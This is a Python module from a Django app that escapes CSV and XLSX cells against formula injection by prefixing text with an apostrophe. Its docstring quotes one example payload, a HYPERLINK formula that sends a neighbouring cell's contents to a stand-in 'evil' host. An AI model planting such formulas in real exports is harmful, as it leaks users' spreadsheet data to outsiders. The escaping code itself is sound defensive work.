"""Every CSV and XLSX file the app writes passes its cells through here (OWASP, "CSV Injection").

A spreadsheet program reads a cell that begins with = + - @ (or a tab or carriage return before one) as a formula:
a faculty named `=HYPERLINK("http://evil/?"&A1, "Open")` becomes a live link that sends the neighbouring cells
away. Text that begins so is written with a leading apostrophe, which the program shows as text and drops.
Numbers, dates and other non-text values are written as they are.
"""

import csv
from collections.abc import Iterable

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """The value, safe to write into a CSV or XLSX cell (lazy translations become their text)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable) -> list:
    return [cell(value) for value in values]


class Writer:
    """csv.writer whose rows are escaped; writerow returns what the underlying writer returns (streaming views)."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, values: Iterable):
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable]):
        return self._writer.writerows(row(values) for values in rows)


def writer(buffer, **options) -> Writer:
    return Writer(buffer, **options)
